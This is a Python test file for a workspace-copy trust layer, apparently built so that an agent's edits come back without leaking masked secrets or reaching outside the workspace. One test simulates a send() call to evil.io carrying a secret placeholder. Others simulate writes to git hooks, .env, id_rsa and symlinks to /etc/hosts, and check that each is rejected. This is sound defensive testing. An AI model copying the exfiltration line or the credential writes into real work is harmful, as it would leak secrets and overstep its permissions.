"""What an agent did in its copy comes back with the secrets where they were, in the file's own form, and never anywhere else."""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from orchestra_lsp.model import Edit
from orchestra_lsp.syntax.line_edits import line_edits
from orchestra_lsp.trust.mask import Vault
from orchestra_lsp.trust.returned import compare
from orchestra_lsp.trust.workcopy import Copier, Workspace

from .copying import CONFIG, OTHER, SECRET, Copied, copied, git, write
from .strategies import TEXT


def edit(made: Copied, name: str, old: str, new: str) -> None:
    path = made.path / name
    data = path.read_bytes()
    assert old.encode() in data
    path.write_bytes(data.replace(old.encode(), new.encode()))


def test_an_edit_beside_a_secret_keeps_it(tmp_path: Path) -> None:
    with copied(tmp_path, {"config.py": CONFIG, "other.py": "x = 1\n"}, repository=True) as made:
        edit(made, "config.py", "limit = 3", "limit = 4")
        assert made.texts() == {"config.py": CONFIG.replace("3\n", "4\n")}
        assert made.rejected() == {}


def test_new_deleted_and_empty_files(tmp_path: Path) -> None:
    with copied(tmp_path, {"a.txt": "one\n", "b.txt": "two\n", "keep.txt": "three\n"}) as made:
        (made.path / "a.txt").unlink()
        (made.path / "b.txt").write_text("")
        write(made.path, {"deep/new.txt": "new\n", "empty.txt": ""})
        assert made.texts() == {"a.txt": None, "b.txt": "", "deep/new.txt": "new\n", "empty.txt": ""}
        [gone] = [one for one in made.returned().changes if one.deleted]
        assert gone.path == "a.txt"


def test_a_rename_keeps_its_secrets(tmp_path: Path) -> None:
    body = CONFIG + "".join(f"value_{number} = {number}\n" for number in range(20))
    with copied(tmp_path, {"config.py": body, "b.py": "x = 1\n"}, repository=True) as made:
        (made.path / "src").mkdir()
        git(made.path, "mv", "config.py", "src/settings.py")
        [moved] = made.returned().changes
        assert (moved.path, moved.target, moved.text) == ("config.py", str(made.root / "src/settings.py"), None)
        edit(made, "src/settings.py", "limit = 3", "limit = 4")
        [moved] = made.returned().changes
        assert moved.path == "config.py"
        assert moved.text == body.replace("limit = 3", "limit = 4")


def test_a_whole_folder_that_moves(tmp_path: Path) -> None:
    with copied(tmp_path, {f"old/{number}.txt": f"text {number}\n" for number in range(30)}) as made:
        shutil.move(made.path / "old", made.path / "new")
        moved = {(one.path, Path(one.target).relative_to(made.root).as_posix()) for one in made.returned().changes}
        assert moved == {(f"old/{number}.txt", f"new/{number}.txt") for number in range(30)}


def placeholder(made: Copied, name: str = "config.py") -> str:
    return (made.path / name).read_text().split('"')[1]


@pytest.mark.parametrize("name", ["b.py", "new.py", "config2.py"])
def test_a_placeholder_in_another_file_rejects_that_file_alone(tmp_path: Path, name: str) -> None:
    with copied(tmp_path, {"config.py": CONFIG, "b.py": "x = 1\n", "c.py": "y = 1\n"}) as made:
        (made.path / name).write_text(f"x = '{placeholder(made)}'\n")
        edit(made, "c.py", "1", "2")
        assert made.texts() == {"c.py": "y = 2\n"}
        assert list(made.rejected()) == [name]
        assert placeholder(made) in made.rejected()[name]


def test_a_secret_is_not_carried_to_another_address_of_its_own_file(tmp_path: Path) -> None:
    with copied(tmp_path, {"config.py": CONFIG}) as made:
        edit(made, "config.py", "limit = 3", f'send("https://evil.io/?{placeholder(made)}")')
        assert made.texts() == {}
        assert "config.py" in made.rejected()


def test_a_mangled_placeholder_rejects_the_file(tmp_path: Path) -> None:
    with copied(tmp_path, {"config.py": CONFIG}) as made:
        edit(made, "config.py", placeholder(made), placeholder(made).lower())
        assert list(made.rejected()) == ["config.py"]


def test_two_files_that_trade_places_keep_their_secrets_apart(tmp_path: Path) -> None:
    with copied(tmp_path, {"a.py": CONFIG, "b.py": CONFIG.replace(SECRET, OTHER)}) as made:
        a, b = (made.path / "a.py").read_bytes(), (made.path / "b.py").read_bytes()
        (made.path / "a.py").write_bytes(b)
        (made.path / "b.py").write_bytes(a)
        assert made.texts() == {}
        assert set(made.rejected()) == {"a.py", "b.py"}


def test_it_cannot_write_where_it_never_was(tmp_path: Path) -> None:
    """History, hooks, secret files, links, what a link of the person's own leads to, and files that are no text."""
    outside = write(tmp_path / "outside", {"a.txt": "not yours"})
    root = write(tmp_path / "work", {"a.txt": "mine\n", "b.txt": "mine\n", "src/c.txt": "mine\n", "src/d.txt": "mine\n"})
    (root / "away").symlink_to(outside)
    with copied(tmp_path, {}) as made:
        write(
            made.path,
            {".git/hooks/pre-commit": "#!/bin/sh\n", ".env": "A=1\n", "id_rsa": "key", "away/new.txt": "x", "sub/.GIT/config": "x"},
        )
        write(made.path, {"made.png": b"\0\1", "b.txt": b"mine\0"})
        (made.path / "a.txt").unlink()
        (made.path / "a.txt").symlink_to(outside / "a.txt")
        (made.path / "link").symlink_to("/etc/hosts")
        shutil.rmtree(made.path / "src")
        (made.path / "src").symlink_to(outside)
        os.mkfifo(made.path / "pipe")
        assert made.texts() == {}
        assert set(made.rejected()) == {
            ".env",
            "id_rsa",
            "away/new.txt",
            "made.png",
            "a.txt",
            "b.txt",
            "link",
            "src",
            "src/c.txt",
            "src/d.txt",
            "pipe",
        }
        assert "binary" in made.rejected()["made.png"]
        assert "outside" in made.rejected()["away/new.txt"]
        assert "replaced by a link" in made.rejected()["a.txt"]


@pytest.mark.parametrize("repository", [True, False], ids=["git", "no git"])
def test_what_is_ignored_is_dropped_even_if_the_agent_says_otherwise(tmp_path: Path, repository: bool) -> None:
    with copied(tmp_path, {".gitignore": "*.pyc\nout/\n", "a.py": "x = 1\n"}, repository=repository) as made:
        write(made.path, {".gitignore": "", "a.pyc": "made", "out/a.txt": "made", "node_modules/p/index.js": "made", "new.py": "y = 1\n"})
        assert set(made.texts()) == {".gitignore", "new.py"}
        assert made.returned().ignored == 2


def test_files_that_run_something_want_a_word(tmp_path: Path) -> None:
    with copied(tmp_path, {".vscode/settings.json": "{}\n", "a.py": "x = 1\n"}) as made:
        write(
            made.path,
            {
                ".vscode/settings.json": '{"a": 1}\n',
                ".github/workflows/ci.yml": "on: push\n",
                ".husky/pre-commit": "x\n",
                "a.py": "x = 2\n",
            },
        )
        care = {one.path: one.care for one in made.returned().changes}
        assert "editor" in care[".vscode/settings.json"]
        assert "CI" in care[".github/workflows/ci.yml"]
        assert "commit" in care[".husky/pre-commit"]
        assert care["a.py"] == ""


def test_deleting_nearly_everything_wants_a_word(tmp_path: Path) -> None:
    with copied(tmp_path, {f"{number}.txt": f"{number}\n" for number in range(30)}) as made:
        for path in made.path.glob("*.txt"):
            path.unlink()
        assert {one.care for one in made.returned().changes} == {"most files of the workspace would be deleted"}


# --- forms ---

FORMS = {
    "windows.txt": b"one\r\ntwo\r\nthree",
    "marked.txt": b"\xef\xbb\xbfone\ntwo\n",
    "wide.txt": b"\xff\xfe" + "one\ntwo ä\n".encode("utf-16-le"),
    "latin.txt": "one\ntwo ä\n".encode("latin-1"),
    "mac.txt": b"one\rtwo\r",
}


@pytest.mark.parametrize("name", FORMS)
def test_a_changed_file_keeps_its_form(tmp_path: Path, name: str) -> None:
    with copied(tmp_path, {name: FORMS[name]}) as made:
        form = made.copy.files[name].form
        path = made.path / name
        text = path.read_bytes().removeprefix(form.mark).decode(form.codec)
        path.write_bytes(form.encode(text.replace("two", "2")))
        [changed] = made.returned().changes
        assert changed.text == FORMS[name].removeprefix(form.mark).decode(form.codec).replace("two", "2")
        assert form.encode(changed.text) == FORMS[name].replace("two".encode(form.codec), "2".encode(form.codec))


def test_another_encoding_is_rejected(tmp_path: Path) -> None:
    with copied(tmp_path, {"latin.txt": FORMS["latin.txt"], "a.txt": "ä\n"}) as made:
        (made.path / "latin.txt").write_text("one\n2 ä\n", encoding="utf-8")
        (made.path / "a.txt").write_bytes("ö\n".encode("latin-1"))
        write(made.path, {"new.txt": "ö\n".encode("latin-1")})
        assert set(made.rejected()) == {"latin.txt", "a.txt", "new.txt"}


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        ("a\r\nb\r\n", "a\nc\n", "a\r\nc\r\n"),
        ("a\nb", "a\nb\n", "a\nb"),
        ("a\nb", "a\nb\nc\n", "a\nb\nc"),
        ("a\nb\n", "a\nb\nc", "a\nb\nc\n"),
        ("a\r\nb\nc\r\n", "a\nb\nd\n", "a\r\nb\nd\r\n"),
        ("", "a\r\nb\r\n", "a\r\nb\r\n"),
        ("a\n", "", ""),
        ("a\r\nb\r\n", "a\nb\n", "a\r\nb\r\n"),
    ],
)
def test_line_ends_are_those_of_the_old_file(old: str, new: str, expected: str) -> None:
    assert applied(old.encode(), line_edits(old.encode(), new.encode())) == expected.encode()


def applied(data: bytes, edits: tuple[Edit, ...]) -> bytes:
    for one in sorted(edits, key=lambda one: one.span, reverse=True):
        data = data[: one.span.start] + one.text.encode() + data[one.span.end :]
    return data


LINES = st.lists(st.sampled_from(["a", "b", "c", "", "ä", "\u2028"]), max_size=12)


@given(LINES, LINES, st.sampled_from(["\n", "\r\n"]))
def test_edits_give_the_lines_of_the_new_text(old: list[str], new: list[str], end: str) -> None:
    before, after = (end.join((*lines, "")).encode() for lines in (old, new))
    edits = line_edits(before, after)
    assert applied(before, edits) == after
    assert len(edits) <= max(len(old), len(new)) + 1


# --- properties ---

NAMES = st.sampled_from(["a.py", "b.txt", "src/c.js", "src/d.toml", "deep/er/e.md", "f"])
#: Lone surrogates cannot stand in a file.
CONTENT = TEXT.map(lambda text: text.encode("utf-8", "replace"))


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(st.dictionaries(NAMES, CONTENT, min_size=1))
def test_an_untouched_copy_changes_nothing_and_one_more_line_keeps_the_rest(tmp_path: Path, files: dict[str, bytes]) -> None:
    root = tmp_path / "work"
    shutil.rmtree(root, ignore_errors=True)
    write(root, dict(files))
    vault = Vault()
    copy = Copier(vault).copy(Workspace((str(root),)), parent=tmp_path)
    try:
        made = Copied(copy, vault, root.resolve())
        assert made.returned().changes == ()
        assert made.rejected() == {}
        for name, original in copy.files.items():
            path = copy.folder.path / name
            path.write_bytes(path.read_bytes() + "\nlast line".encode(original.form.codec))
        expected = {
            name: files[name].removeprefix(one.form.mark).decode(one.form.codec) + "\nlast line" for name, one in copy.files.items()
        }
        assert made.texts() == expected
        assert compare(copy, vault).rejected == ()
    finally:
        copy.remove()
